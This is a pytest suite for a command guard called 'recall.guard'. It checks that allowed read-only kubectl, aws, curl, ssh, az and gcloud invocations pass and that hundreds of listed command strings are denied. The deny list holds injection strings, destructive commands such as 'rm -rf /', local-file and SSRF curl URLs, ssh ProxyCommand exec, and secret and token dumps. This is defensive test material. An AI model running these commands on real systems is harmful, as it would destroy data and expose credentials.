"""Tests for recall.guard: adversarial command strings, allowed shapes, `which`, and fuzzing."""
from __future__ import annotations

import dataclasses

import pytest

from recall.guard import RULES, SETUP_FORM, Verdict, verdict_for

PATHS = {
    "kubectl": "/usr/local/bin/kubectl",
    "curl": "/usr/bin/curl",
    "aws": "/usr/local/bin/aws",
    "az": "/usr/bin/az",
    "ssh": "/usr/bin/ssh",
    "sudo": "/usr/bin/sudo",
}


def fake_which(name):
    return PATHS.get(name)


LEXER_RULES = {"empty", "too-long", "newline", "line-continuation", "control-char", "unicode-space", "escape",
               "shell-metachar", "shell-expansion", "glob", "tilde", "comment", "unbalanced-quote"}

# (command, rule) — every row here must be denied with exactly that rule
DENIED = [
    # shell metacharacters, unquoted
    ("kubectl get nodes; rm -rf /", "shell-metachar"),
    ("kubectl get nodes && reboot", "shell-metachar"),
    ("kubectl get nodes || true", "shell-metachar"),
    ("kubectl get nodes | sh", "shell-metachar"),
    ("kubectl get nodes &", "shell-metachar"),
    ("kubectl get nodes > /tmp/out", "shell-metachar"),
    ("kubectl get nodes >> /tmp/out", "shell-metachar"),
    ("kubectl get nodes 2>&1", "shell-metachar"),
    ("kubectl get nodes < /etc/passwd", "shell-metachar"),
    ("(kubectl get nodes)", "shell-metachar"),
    ("diff <(kubectl get nodes) /dev/null", "shell-metachar"),
    ("curl -s -o >(sh) https://x.example.com/", "shell-metachar"),
    ("kubectl get ^nodes", "shell-metachar"),
    # expansions: $( ), backticks, ${ }, $VAR — unquoted and inside double quotes
    ("kubectl get $(echo nodes)", "shell-expansion"),
    ('kubectl get "$(echo nodes)"', "shell-expansion"),
    ("kubectl get `echo nodes`", "shell-expansion"),
    ('kubectl get "`id`"', "shell-expansion"),
    ("kubectl --context ${CTX} get nodes", "shell-expansion"),
    ("kubectl --context $CTX get nodes", "shell-expansion"),
    ('kubectl --context "$CTX" get nodes', "shell-expansion"),
    ('curl -s -H "Authorization: Bearer $TOKEN" https://jira.example.com/', "shell-expansion"),
    ("kubectl get nodes !!", "shell-expansion"),
    ('kubectl get "nodes!"', "shell-expansion"),
    # newlines, carriage returns, line continuation, escapes, control characters
    ("kubectl get nodes\nrm -rf /", "newline"),
    ("kubectl get nodes\rrm -rf /", "newline"),
    ("kubectl get 'nodes\nrm -rf /'", "newline"),
    ("kubectl get \\\nnodes", "line-continuation"),
    ('kubectl get "no\\\nde"', "line-continuation"),
    ("kubectl get no\\des", "escape"),
    ('kubectl get "no\\"des"', "escape"),
    ("kubectl get nodes\x00", "control-char"),
    ("kubectl get\u00a0nodes", "unicode-space"),
    ("kubectl get nodes\u2028rm", "unicode-space"),
    # globs, brace expansion, tilde, comments, quotes
    ("kubectl get po*", "glob"),
    ("kubectl get pod?", "glob"),
    ("kubectl get [p]ods", "glob"),
    ("kubectl get {pods,secrets}", "glob"),
    ("ssh -i ~root/.ssh/id host true", "tilde"),
    ("kubectl get nodes # then something", "comment"),
    ("curl -s https://x.example.com/#frag", "comment"),
    ("kubectl get 'nodes", "unbalanced-quote"),
    ('kubectl get "nodes', "unbalanced-quote"),
    ("", "empty"),
    ("   \t ", "empty"),
    ("kubectl get " + "a" * 5000, "too-long"),
    # argv level: env prefixes, wrappers, paths, unknown tools
    ("KUBECONFIG=/tmp/evil kubectl get nodes", "env-assign"),
    ("AWS_PROFILE=x aws sts get-caller-identity", "env-assign"),
    ("env kubectl get nodes", "wrapper"),
    ("env -i PATH=/tmp kubectl get nodes", "wrapper"),
    ("timeout 5 kubectl get nodes", "wrapper"),
    ("nice kubectl get nodes", "wrapper"),
    ("nohup kubectl get nodes", "wrapper"),
    ("xargs kubectl delete pod", "wrapper"),
    ("sh -c 'kubectl get nodes'", "wrapper"),
    ("bash -c 'kubectl get nodes'", "wrapper"),
    ("zsh -c 'kubectl get nodes'", "wrapper"),
    ("dash -c 'kubectl get nodes'", "wrapper"),
    ("eval kubectl get nodes", "wrapper"),
    ("exec kubectl get nodes", "wrapper"),
    ("command kubectl get nodes", "wrapper"),
    ("builtin kubectl get nodes", "wrapper"),
    ("time kubectl get nodes", "wrapper"),
    ("stdbuf -o0 kubectl get nodes", "wrapper"),
    ("watch kubectl get nodes", "wrapper"),
    ("parallel kubectl get ::: nodes", "wrapper"),
    ("doas kubectl get nodes", "wrapper"),
    ("/bin/sh -c true", "wrapper"),
    ("find . -exec rm '{}' +", "wrapper"),
    ("find . -execdir rm '{}' +", "wrapper"),
    ("find /tmp -delete", "wrapper"),
    ("find . -ok rm '{}' +", "wrapper"),
    ("find . -name x", "unknown-tool"),
    # sudo: only `sudo -k true`, exactly
    ("sudo true", "wrapper"),
    ("sudo -k", "wrapper"),
    ("sudo -k true extra", "wrapper"),
    ("sudo -S -k true", "wrapper"),
    ("sudo -k -- true", "wrapper"),
    ("sudo -kS true", "wrapper"),
    ("sudo -u root -k true", "wrapper"),
    ("sudo kubectl get nodes", "wrapper"),
    ("/tmp/kubectl get nodes", "path"),
    ("./kubectl get nodes", "path"),
    ("../bin/curl https://x.example.com/", "path"),
    ("/usr/bin/kubectl get nodes", "path"),          # PATH has /usr/local/bin/kubectl
    ("/tmp/evil/sudo -k true", "path"),
    ("/usr/bin/tcp host:22", "path"),
    ("/ get nodes", "path"),
    ("rm -rf /", "unknown-tool"),
    ("python3 -c 'print(1)'", "unknown-tool"),
    ("helm list", "unknown-tool"),
    ("Kubectl get nodes", "unknown-tool"),
    ("'' get nodes", "unknown-tool"),
    # aws
    ("aws sts get-caller-identity --endpoint-url https://evil.example.net", "aws.endpoint"),
    ("aws sts get-caller-identity --endpoint-url=https://evil.example.net", "aws.endpoint"),
    ("aws --debug sts get-caller-identity", "aws.debug"),
    ("aws sts get-caller-identity --no-verify-ssl", "aws.flag"),
    ("aws sts get-caller-identity --ca-bundle /tmp/ca.pem", "aws.flag"),
    ("aws sts get-caller-identity --prof ops", "aws.flag"),          # argparse abbreviation
    ("aws sts get-caller-identity --endpoint x", "aws.flag"),        # abbreviation of --endpoint-url
    ("aws sts get-caller-identity -p ops", "aws.flag"),
    ("aws sts get-caller-identity -- --debug", "aws.flag"),
    ("aws sts assume-role --role-arn x", "aws.flag"),
    ("aws sts assume-role", "aws.command"),
    ("aws iam delete-user", "aws.command"),
    ("aws sts get-caller-identity extra", "aws.command"),
    ("aws get-caller-identity sts", "aws.command"),
    ("aws sts get-caller-identity --output yaml", "aws.value"),
    ("aws sts get-caller-identity --output=yaml", "aws.value"),
    ("aws sts get-caller-identity --profile --debug", "aws.value"),
    ("aws sts get-caller-identity --profile", "aws.value"),
    ("aws sts get-caller-identity --region US_EAST", "aws.value"),
    # kubectl
    ("kubectl get pods -w", "kubectl.watch"),
    ("kubectl get pods --watch", "kubectl.watch"),
    ("kubectl get pods --watch-only", "kubectl.watch"),
    ("kubectl get pods --watch=true", "kubectl.watch"),
    ("kubectl get pods -Aw", "kubectl.watch"),
    ("kubectl get --raw /api/v1/namespaces/default/secrets", "kubectl.raw"),
    ("kubectl --kubeconfig /tmp/evil get nodes", "kubectl.identity"),
    ("kubectl --kubeconfig=/tmp/evil get nodes", "kubectl.identity"),
    ("kubectl -s https://evil.example.net get nodes", "kubectl.identity"),
    ("kubectl --server=https://evil.example.net get nodes", "kubectl.identity"),
    ("kubectl get nodes --token abc", "kubectl.identity"),
    ("kubectl get nodes --as admin", "kubectl.identity"),
    ("kubectl get nodes --as-group system:masters", "kubectl.identity"),
    ("kubectl get nodes --user admin", "kubectl.identity"),
    ("kubectl get nodes --cluster other", "kubectl.identity"),
    ("kubectl get nodes --insecure-skip-tls-verify", "kubectl.identity"),
    ("kubectl get pods -o='go-template={{.}}'", "kubectl.output"),
    ("kubectl get pods --output=custom-columns=N:.metadata.name", "kubectl.output"),
    ("kubectl get pods --template x", "kubectl.output"),
    ("kubectl version -o wide", "kubectl.output"),
    ("kubectl get secret", "kubectl.secret"),
    ("kubectl get secrets", "kubectl.secret"),
    ("kubectl get secret/db-password -o yaml", "kubectl.secret"),
    ("kubectl get secrets.v1. -A", "kubectl.secret"),
    ("kubectl get secret.v1", "kubectl.secret"),
    ("kubectl get Secret", "kubectl.secret"),
    ("kubectl get SECRETS", "kubectl.secret"),
    ("kubectl get pods,secrets", "kubectl.secret"),
    ("kubectl get pods secrets/x", "kubectl.secret"),
    ("kubectl -n prod get -A secrets -o json", "kubectl.secret"),
    ("kubectl cluster-info dump", "kubectl.dump"),
    ("kubectl delete pods web", "kubectl.command"),
    ("kubectl proxy", "kubectl.command"),
    ("kubectl my-plugin", "kubectl.command"),
    ("kubectl", "kubectl.command"),
    ("kubectl apply -f x.yaml", "kubectl.flag"),
    ("kubectl exec web -- sh", "kubectl.flag"),
    ("kubectl -A get pods", "kubectl.flag"),            # cobra would take `get` as -A's value
    ("kubectl -o json get pods", "kubectl.flag"),
    ("kubectl -v=9 get nodes", "kubectl.flag"),
    ("kubectl get nodes --v=9", "kubectl.flag"),
    ("kubectl get nodes --all-namespaces=true", "kubectl.flag"),
    ("kubectl version --short", "kubectl.flag"),
    ("kubectl version -A", "kubectl.flag"),
    ("kubectl get pods --client", "kubectl.flag"),
    ("kubectl auth can-i --list", "kubectl.flag"),
    ("kubectl auth can-i get pods -o json", "kubectl.flag"),
    ("kubectl get", "kubectl.args"),
    ("kubectl version extra", "kubectl.args"),
    ("kubectl cluster-info extra", "kubectl.args"),
    ("kubectl auth can-i get", "kubectl.args"),
    ("kubectl auth can-i fly pods", "kubectl.args"),
    ("kubectl get pods -n KUBE", "kubectl.value"),
    ("kubectl get pods --request-timeout=forever", "kubectl.value"),
    ("kubectl get pods --context", "kubectl.value"),
    ("kubectl get pods -l --raw", "kubectl.value"),
    # curl: methods, bodies, uploads, files, config, routing, credentials
    ("curl -X POST https://x.example.com/", "curl.method"),
    ("curl -XDELETE https://x.example.com/", "curl.method"),
    ("curl --request PUT https://x.example.com/", "curl.method"),
    ("curl -X get https://x.example.com/", "curl.method"),
    ("curl -d a=b https://x.example.com/", "curl.data"),
    ("curl -sd a=b https://x.example.com/", "curl.data"),
    ("curl --data=x https://x.example.com/", "curl.data"),
    ("curl --data-binary @body https://x.example.com/", "curl.data"),
    ("curl --data-urlencode a=b https://x.example.com/", "curl.data"),
    ("curl --json '{}' https://x.example.com/", "curl.data"),
    ("curl -F a=@f https://x.example.com/", "curl.data"),
    ("curl --form a=b https://x.example.com/", "curl.data"),
    ("curl -T file https://x.example.com/", "curl.data"),
    ("curl --upload-file file https://x.example.com/", "curl.data"),
    ("curl -O https://x.example.com/f", "curl.output"),
    ("curl -o /tmp/x https://x.example.com/", "curl.output"),
    ("curl -sSo out.html https://x.example.com/", "curl.output"),
    ("curl -o/etc/cron.d/x https://x.example.com/", "curl.output"),
    ("curl -D /tmp/headers https://x.example.com/", "curl.output"),
    ("curl -c jar https://x.example.com/", "curl.output"),
    ("curl --trace /tmp/t https://x.example.com/", "curl.output"),
    ("curl --output-dir /tmp https://x.example.com/", "curl.output"),
    ("curl -K cfg https://x.example.com/", "curl.config"),
    ("curl --config cfg https://x.example.com/", "curl.config"),
    ("curl -sK cfg", "curl.config"),
    ("curl -x http://proxy:3128 https://x.example.com/", "curl.route"),
    ("curl --proxy http://proxy https://x.example.com/", "curl.route"),
    ("curl --resolve x.example.com:443:6.6.6.6 https://x.example.com/", "curl.route"),
    ("curl --connect-to ::evil.example.net: https://x.example.com/", "curl.route"),
    ("curl --unix-socket /var/run/docker.sock http://localhost/containers/json", "curl.route"),
    ("curl --socks5 127.0.0.1:9050 https://x.example.com/", "curl.route"),
    ("curl -u user:pass https://x.example.com/", "curl.credential"),
    ("curl --user user:pass https://x.example.com/", "curl.credential"),
    ("curl -n https://x.example.com/", "curl.credential"),
    ("curl --oauth2-bearer t https://x.example.com/", "curl.credential"),
    ("curl -b session=1 https://x.example.com/", "curl.credential"),
    ("curl --location-trusted https://x.example.com/", "curl.credential"),
    ("curl -H @headers.txt https://x.example.com/", "curl.header"),
    ("curl -H 'X-HTTP-Method-Override: DELETE' https://x.example.com/", "curl.header"),
    ("curl -H garbage https://x.example.com/", "curl.header"),
    ("curl -w @fmt https://x.example.com/", "curl.write-out"),
    ("curl -w '%output{/tmp/x}%{http_code}' https://x.example.com/", "curl.write-out"),
    ("curl file:///etc/passwd", "curl.scheme"),
    ("curl gopher://x.example.com/_RSET", "curl.scheme"),
    ("curl dict://127.0.0.1:11211/stats", "curl.scheme"),
    ("curl ftp://x.example.com/", "curl.scheme"),
    ("curl ldap://x.example.com/", "curl.scheme"),
    ("curl x.example.com", "curl.scheme"),
    ("curl https://a.example.com/ https://b.example.com/", "curl.url"),
    ("curl -s", "curl.url"),
    ("curl https://user:pass@x.example.com/", "curl.url"),
    ("curl 'https://good.example.com#@evil.example.net/'", "curl.url"),
    ("curl 'https://x.example.com/{a,b}'", "curl.url"),
    ("curl 'https://x.example.com/[1-99]'", "curl.url"),
    ("curl https://x.example.com:0/", "curl.url"),
    ("curl 'https://x.example.com\\@evil.example.net/'", "curl.url"),
    ("curl --request=GET https://x.example.com/", "curl.flag"),       # curl has no --opt=value
    ("curl --output=/dev/null https://x.example.com/", "curl.flag"),
    ("curl -sSz https://x.example.com/", "curl.flag"),
    ("curl --no-silent https://x.example.com/", "curl.flag"),
    ("curl --url https://x.example.com/", "curl.flag"),
    ("curl --variable %HOME https://x.example.com/", "curl.flag"),
    ("curl -: https://x.example.com/", "curl.flag"),
    ("curl -- https://x.example.com/", "curl.flag"),
    ("curl -G https://x.example.com/", "curl.flag"),
    ("curl --max-time never https://x.example.com/", "curl.value"),
    ("curl https://x.example.com/ -m", "curl.value"),
    # ssh
    ("ssh -o ProxyCommand='sh -c id' host true", "ssh.option"),
    ("ssh -oProxyCommand=id host true", "ssh.option"),
    ("ssh host -o LocalCommand=id true", "ssh.option"),
    ("ssh -F /tmp/cfg host true", "ssh.option"),
    ("ssh -L 8080:db:5432 host true", "ssh.forward"),
    ("ssh -R 9000:localhost:22 host true", "ssh.forward"),
    ("ssh -D 1080 host true", "ssh.forward"),
    ("ssh -W db:5432 host true", "ssh.forward"),
    ("ssh -J jump host true", "ssh.jump"),
    ("ssh -w 0:0 host true", "ssh.forward"),
    ("ssh -A host true", "ssh.forward"),
    ("ssh -qX host true", "ssh.forward"),
    ("ssh host", "ssh.command"),                    # no command: a login shell
    ("ssh -q true", "ssh.command"),                 # `true` is the HOST here
    ("ssh host true -q", "ssh.command"),            # after the first word it is all remote command
    ("ssh", "ssh.args"),
    ("ssh -4 -6 host true", "ssh.args"),
    ("ssh ssh://host true", "ssh.args"),
    ("ssh 'ho st' true", "ssh.args"),
    ("ssh host rm -rf /", "ssh.command"),
    ("ssh host 'true; rm -rf /'", "ssh.command"),
    ("ssh host sh -c true", "ssh.command"),
    ("ssh host hostname evil", "ssh.command"),
    ("ssh host reboot", "ssh.command"),
    ("ssh -t host true", "ssh.flag"),
    ("ssh -N host true", "ssh.flag"),
    ("ssh -- host true", "ssh.flag"),
    ("ssh -p 0 host true", "ssh.value"),
    ("ssh -p 70000 host true", "ssh.value"),
    ("ssh -p=22 host true", "ssh.value"),
    ("ssh -l -oProxyCommand=id host true", "ssh.value"),
    # az
    ("az account show -s ops", "az.flag"),
    ("az account show --sub ops", "az.flag"),
    ("az account show --subscription ops --debug", "az.flag"),
    ("az account set --subscription ops", "az.command"),
    ("az vm list --subscription ops", "az.command"),
    ("az account show --subscription ops -o yaml", "az.value"),
    ("az account show --subscription ops --output=yamlc", "az.value"),
    # tcp
    ("tcp host:0", "tcp.port"),
    ("tcp host:65536", "tcp.port"),
    ("tcp host:-1", "tcp.port"),
    ("tcp host:+22", "tcp.port"),
    ("tcp host:http", "tcp.port"),
    ("tcp host:", "tcp.port"),
    ("tcp host:\u0662\u0662", "tcp.port"),
    ("tcp host", "tcp.target"),
    ("tcp ::1:22", "tcp.target"),
    ("tcp '[::1]'", "tcp.target"),
    ("tcp '[evil]:22'", "tcp.target"),
    ("tcp 'ho st:22'", "tcp.target"),
    ("tcp -h:22", "tcp.target"),
    ("tcp", "tcp.args"),
    ("tcp host:22 extra", "tcp.args"),
    # issue 14 point 5: the write/exec forms of the tools whose read-only forms are now allowed
    ("ssh -o PermitLocalCommand=yes host true", "ssh.option"),
    ("ssh -o BatchMode=maybe host true", "ssh.option"),
    ("ssh -o 'BatchMode yes' host true", "ssh.option"),
    ("ssh -o ConnectTimeout=soon host true", "ssh.option"),
    ("ssh -o ProxyJump=evil host true", "ssh.option"),
    ("ssh -n host uptime -a", "ssh.command"),
    ("ssh host id; reboot", "shell-metachar"),
    ("ssh host 'whoami && reboot'", "ssh.command"),
    ("ssh host hostname -F /etc/x", "ssh.command"),
    ("ssh -i ~/k host touch x", "ssh.command"),
    ("ssh -l ~/k host true", "tilde"),
    ("ssh host -i ~other/k true", "tilde"),
    ("ssh -J jump01 host true", "ssh.jump"),
    ("ssh -x -X host true", "ssh.forward"),
    ("curl -w \"%{http_code}\\$HOME\" https://x.example.com/", "escape"),
    ("curl -w \"a\\\"b\" https://x.example.com/", "escape"),
    ("curl --retry many https://x.example.com/", "curl.value"),
    ("curl --retry 99 https://x.example.com/", "curl.value"),
    ("curl --cacert https://x.example.com/", "curl.url"),
    ("curl --capath /etc/ssl https://x.example.com/", "curl.flag"),
    ("curl -sHo /tmp/x https://x.example.com/", "curl.header"),
    ("curl -A ua -T f https://x.example.com/", "curl.data"),
    ("curl -4 -o /tmp/x https://x.example.com/", "curl.output"),
    ("curl --noproxy 'a;b' https://x.example.com/", "curl.value"),
    ("aws s3 cp s3://b/k /tmp/k", "aws.command"),
    ("aws s3 rm s3://b/k", "aws.command"),
    ("aws s3 sync /tmp s3://b", "aws.command"),
    ("aws s3 mb s3://b", "aws.command"),
    ("aws s3 presign s3://b/k", "aws.command"),
    ("aws s3 ls s3://b/k extra", "aws.command"),
    ("aws s3 ls /tmp", "aws.value"),
    ("aws s3 ls --recursive s3://b", "aws.flag"),
    ("aws s3api get-object --bucket b --key k out", "aws.flag"),
    ("aws sts get-caller-identity --cli-connect-timeout soon", "aws.value"),
    ("aws --no-cli-pager s3 ls --endpoint-url https://evil.example.net", "aws.endpoint"),
    ("kubectl get --raw /api/v1/secrets", "kubectl.raw"),
    ("kubectl get --raw /readyz pods", "kubectl.raw"),
    ("kubectl get --raw=/metrics", "kubectl.raw"),
    ("kubectl version --raw /readyz", "kubectl.raw"),
    ("kubectl get secrets -o 'jsonpath={.items[0].data}'", "kubectl.secret"),
    ("kubectl get pods -o 'go-template={{.}}' --no-headers", "kubectl.output"),
    ("kubectl get pods -o custom-columns=N:.metadata.name", "kubectl.output"),
    ("kubectl top secrets", "kubectl.args"),
    ("kubectl top pods a b", "kubectl.args"),
    ("kubectl api-resources -o json", "kubectl.output"),
    ("kubectl config view", "kubectl.command"),
    ("kubectl config view --raw", "kubectl.value"),
    ("kubectl config view -o yaml", "kubectl.command"),
    ("kubectl config use-context prod", "kubectl.command"),
    ("kubectl config set-context prod --namespace x", "kubectl.command"),
    ("kubectl config current-context extra", "kubectl.args"),
    ("kubectl auth whoami extra", "kubectl.args"),
    ("kubectl auth whoami --as admin", "kubectl.identity"),
    ("kubectl top pods --containers", "kubectl.flag"),
    ("az account get-access-token", "az.command"),
    ("az account set --subscription ops", "az.command"),
    ("az account show --query id -o yaml", "az.value"),
    ("az account show --verbose", "az.flag"),
    ("gcloud auth print-access-token", "gcloud.command"),
    ("gcloud auth login", "gcloud.command"),
    ("gcloud config set project p", "gcloud.command"),
    ("gcloud compute ssh vm1", "gcloud.command"),
    ("gcloud compute instances delete vm1", "gcloud.command"),
    ("gcloud compute instances create vm1", "gcloud.command"),
    ("gcloud container clusters get-credentials c", "gcloud.command"),
    ("gcloud container clusters describe c", "gcloud.command"),
    ("gcloud secrets versions access latest", "gcloud.command"),
    ("gcloud secrets versions access latest --secret s", "gcloud.flag"),
    ("gcloud projects list extra", "gcloud.command"),
    ("gcloud projects describe", "gcloud.command"),
    ("gcloud projects list --log-http", "gcloud.flag"),
    ("gcloud projects list --impersonate-service-account sa@x", "gcloud.flag"),
    ("gcloud projects list --flags-file f.yaml", "gcloud.flag"),
    ("gcloud auth list --project p", "gcloud.flag"),
    ("gcloud projects list --format=evil", "gcloud.value"),
    ("gcloud", "gcloud.command"),
    ("sudo -n rm -rf /", "wrapper"),
    ("sudo -v true", "wrapper"),
    ("sudo -nv", "wrapper"),
    ("sudo -n -k true", "wrapper"),
    ("true false", "true.args"),
    ("/tmp/true", "path"),
    ("tcp [::1]:22x", "glob"),
    ("tcp [evil]:22", "glob"),
    ("tcp ::1]:22", "glob"),
    ("kubectl get [p]ods", "glob"),
]

# (command, rule) — every row here must be allowed with exactly that rule
ALLOWED = [
    ("aws sts get-caller-identity", "aws.sts"),
    ("aws sts get-caller-identity --profile ops --region eu-west-1 --output json", "aws.sts"),
    ("aws --profile=ops sts get-caller-identity --output=text", "aws.sts"),
    ("aws sts get-caller-identity --output table", "aws.sts"),
    ("kubectl get nodes", "kubectl.get"),
    ("kubectl --context ops get nodes", "kubectl.get"),
    ("kubectl --context=ops --request-timeout=10s -n kube-system get pods -o wide", "kubectl.get"),
    ("kubectl --context arn:aws:eks:eu-west-1:1:cluster/ops get nodes", "kubectl.get"),
    ("kubectl get pods -A -o json", "kubectl.get"),
    ("kubectl get pods -Ao json", "kubectl.get"),
    ("kubectl get pods -ojson", "kubectl.get"),
    ("kubectl get pods -o=yaml", "kubectl.get"),
    ("kubectl get pods --all-namespaces --output name", "kubectl.get"),
    ("kubectl get deploy,svc -l app=web", "kubectl.get"),
    ("kubectl get pods --selector 'app in (a,b)'", "kubectl.get"),
    ("kubectl get pods web-1 -o name", "kubectl.get"),
    ("kubectl get secretstores", "kubectl.get"),
    ("kubectl version", "kubectl.version"),
    ("kubectl version --client -o json", "kubectl.version"),
    ("kubectl cluster-info", "kubectl.cluster-info"),
    ("kubectl --context ops cluster-info", "kubectl.cluster-info"),
    ("kubectl auth can-i get pods", "kubectl.auth-can-i"),
    ("kubectl --context ops auth can-i list deployments -n prod", "kubectl.auth-can-i"),
    ("curl -s https://x.example.com/health", "curl.get"),
    ("curl -sS -o /dev/null -w '%{http_code}' https://x.example.com/", "curl.get"),
    ('curl -s -o /dev/null -w "%{http_code}" https://x.example.com/', "curl.get"),
    ("curl -sSfL --max-time 5 https://x.example.com/", "curl.get"),
    ("curl -fsSI -m 3 --connect-timeout 2.5 http://x.example.com:8080/ping", "curl.get"),
    ("curl -X GET https://x.example.com/", "curl.get"),
    ("curl -XGET https://x.example.com/", "curl.get"),
    ("curl --request GET https://x.example.com/", "curl.get"),
    ("curl -k https://10.0.0.1/", "curl.get"),
    ("curl -so/dev/null https://x.example.com/", "curl.get"),
    ("curl -q -s https://x.example.com/", "curl.get"),
    ("curl -H 'Accept: application/json' 'https://x.example.com/api?q=1&x=2'", "curl.get"),
    ("curl 'http://[::1]:8080/'", "curl.get"),
    ("curl -g 'http://[::1]:8080/a[1]'", "curl.get"),
    ("curl HTTPS://X.example.com/", "curl.get"),
    ("ssh jump01 hostname", "ssh.probe"),
    ("ssh -p 2222 -i id_ed25519 -l ops -q -T -4 jump01.example.com true", "ssh.probe"),
    ("ssh -qT ops@jump01 true", "ssh.probe"),
    ("ssh -p2222 10.0.0.5 true", "ssh.probe"),
    ("ssh host -q true", "ssh.probe"),
    ("ssh -i '~/.ssh/id_ed25519' host true", "ssh.probe"),
    ("ssh -6 ::1 true", "ssh.probe"),
    ("sudo -k true", "sudo.k"),
    ("az account show --subscription ops-prod", "az.account-show"),
    ("az account show --subscription=1234-abcd -o json", "az.account-show"),
    ("az account show --subscription ops --output table", "az.account-show"),
    ("az account show --subscription ops -otsv", "az.account-show"),
    ("tcp jump01.example.com:22", "tcp.connect"),
    ("tcp 10.0.0.1:65535", "tcp.connect"),
    ("tcp '[::1]:22'", "tcp.connect"),
    ("tcp host:1", "tcp.connect"),
    # issue 14 point 5: the ordinary read-only proofs a user writes
    ("ssh -o BatchMode=yes host true", "ssh.probe"),
    ("ssh -o ConnectTimeout=5 -o StrictHostKeyChecking=accept-new host hostname", "ssh.probe"),
    ("ssh -oBatchMode=yes -o StrictHostKeyChecking=yes host true", "ssh.probe"),
    ("ssh -n -x host uptime", "ssh.probe"),
    ("ssh -nx -i ~/.ssh/id_ed25519 -p 2222 ops@host id", "ssh.probe"),
    ("ssh -i ~/.ssh/id_ed25519 host true", "ssh.probe"),
    ("ssh host hostname -f", "ssh.probe"),
    ("ssh host whoami", "ssh.probe"),
    ("ssh host id", "ssh.probe"),
    ("ssh host 'hostname -f'", "ssh.probe"),
    ("curl --cacert /etc/ssl/ca.pem https://x.example.com/", "curl.get"),
    ("curl --retry 3 --fail-with-body --compressed https://x.example.com/", "curl.get"),
    ("curl -A recall-verify -4 https://x.example.com/", "curl.get"),
    ("curl -6 --http1.1 --noproxy x.example.com,localhost https://x.example.com/", "curl.get"),
    ("curl --user-agent 'recall/1' https://x.example.com/", "curl.get"),
    ('curl -s -o /dev/null -w "%{http_code}\\n" https://x.example.com/', "curl.get"),
    ("curl -sH 'Accept: application/json' https://x.example.com/", "curl.get"),
    ("curl -sSH'Accept: application/json' https://x.example.com/", "curl.get"),
    ("aws sts get-caller-identity --query Account --output text", "aws.sts"),
    ("aws sts get-caller-identity --no-cli-pager --cli-connect-timeout 5 --region eu-west-1", "aws.sts"),
    ("aws s3 ls", "aws.s3-ls"),
    ("aws s3 ls s3://my-bucket/logs/ --profile ops", "aws.s3-ls"),
    ("kubectl get nodes --no-headers", "kubectl.get"),
    ("kubectl get pods --field-selector status.phase=Running --show-labels", "kubectl.get"),
    ("kubectl get pods -o 'jsonpath={.items}'", "kubectl.get"),
    ("kubectl get pods '-ojsonpath={.items[*].metadata.name}'", "kubectl.get"),
    ("kubectl get nodes -o wide", "kubectl.get"),
    ("kubectl get nodes -o name", "kubectl.get"),
    ("kubectl auth whoami", "kubectl.auth-whoami"),
    ("kubectl --context ops auth whoami -o json", "kubectl.auth-whoami"),
    ("kubectl auth can-i get pods", "kubectl.auth-can-i"),
    ("kubectl top nodes", "kubectl.top"),
    ("kubectl top pods -A --no-headers", "kubectl.top"),
    ("kubectl api-resources", "kubectl.api-resources"),
    ("kubectl api-resources -o name --no-headers", "kubectl.api-resources"),
    ("kubectl --context ops version", "kubectl.version"),
    ("kubectl cluster-info", "kubectl.cluster-info"),
    ("kubectl config current-context", "kubectl.config"),
    ("kubectl config get-contexts", "kubectl.config"),
    ("kubectl config get-contexts ops -o name", "kubectl.config"),
    ("kubectl get --raw /readyz", "kubectl.health"),
    ("kubectl --context ops get --raw /healthz", "kubectl.health"),
    ("kubectl get --raw=/livez", "kubectl.health"),
    ("az account show", "az.account-show"),
    ("az account show --query id -o tsv", "az.account-show"),
    ("az account show -o json", "az.account-show"),
    ("az account show --subscription ops --query id", "az.account-show"),
    ("sudo -n true", "sudo.n"),
    ("sudo -v", "sudo.v"),
    ("gcloud auth list", "gcloud.list"),
    ("gcloud config list", "gcloud.list"),
    ("gcloud config list --format json", "gcloud.list"),
    ("gcloud projects list --format='value(projectId)' --limit 5", "gcloud.list"),
    ("gcloud projects describe my-project", "gcloud.list"),
    ("gcloud compute instances list --project p --filter 'status=RUNNING'", "gcloud.list"),
    ("gcloud compute instances describe vm1 --zone europe-west1-b", "gcloud.list"),
    ("gcloud container clusters list --region europe-west1", "gcloud.list"),
    ("gcloud sql instances list -q", "gcloud.list"),
    ("true", "true.run"),
    ("tcp [::1]:22", "tcp.connect"),
]

# (command, the secret's own url:s or bare hosts, rule, allow) — curl with a credential is bound to the secret's own host
CREDENTIAL = [
    ("curl -s -H 'Accept: application/json' https://jira.example.com/rest/api/2/myself",
     ("jira.example.com",), "curl.get", True),
    ("curl -s https://JIRA.example.com:8443/x", ("jira.example.com",), "curl.get", True),
    ("curl -s https://jira.example.com/", ("https://jira.example.com/",), "curl.get", True),
    ("curl -s https://evil.example.net/", ("jira.example.com",), "curl.host", False),
    ("curl -s https://jira.example.com.evil.example.net/", ("jira.example.com",), "curl.host", False),
    ("curl -s https://jira.example.com/", (), "curl.host", False),
    ("curl -sk https://jira.example.com/", ("jira.example.com",), "curl.insecure", False),
    ("curl -sL https://jira.example.com/", ("jira.example.com",), "curl.redirect", False),
    ("curl -s https://10.0.0.1/", ("10.0.0.2",), "curl.host", False),
    ("curl -s http://10.0.0.1/", ("10.0.0.1",), "curl.http", False),
    # a Host header routes the request at a shared front: only the URL's own authority (issue 33 point 8)
    ("curl -s -H 'Host: evil.example.net' https://jira.example.com/", ("jira.example.com",), "curl.host-header", False),
    ("curl -s --header 'HOST:evil.example.net' https://jira.example.com/", ("jira.example.com",), "curl.host-header", False),
    ("curl -s -HHost:evil.example.net https://jira.example.com/", ("jira.example.com",), "curl.host-header", False),
    ("curl -sH 'host : evil.example.net' https://jira.example.com/", ("jira.example.com",), "curl.host-header", False),
    ("curl -s -H 'Host:' https://jira.example.com/", ("jira.example.com",), "curl.host-header", False),
    ("curl -s -H 'Host: jira.example.com:8443' https://jira.example.com/", ("jira.example.com",), "curl.host-header", False),
    ("curl -s -H 'Host: jira.example.com' -H 'Host: evil.example.net' https://jira.example.com/",
     ("jira.example.com",), "curl.host-header", False),
    ("curl -s -H 'Host: JIRA.example.com' https://jira.example.com/", ("jira.example.com",), "curl.get", True),
    ("curl -s -H 'Host: jira.example.com:443' https://jira.example.com/", ("jira.example.com",), "curl.get", True),
    ("curl -s -H 'Host: jira.example.com:8443' https://jira.example.com:8443/", ("jira.example.com",), "curl.get", True),
]


@pytest.mark.parametrize("command,rule", DENIED, ids=[repr(c)[:60] for c, _ in DENIED])
def test_denied(command, rule):
    v = verdict_for(command, which=fake_which)
    assert (v.verdict, v.rule) == ("deny", rule), v.reason
    assert v.allow is False and v.reason
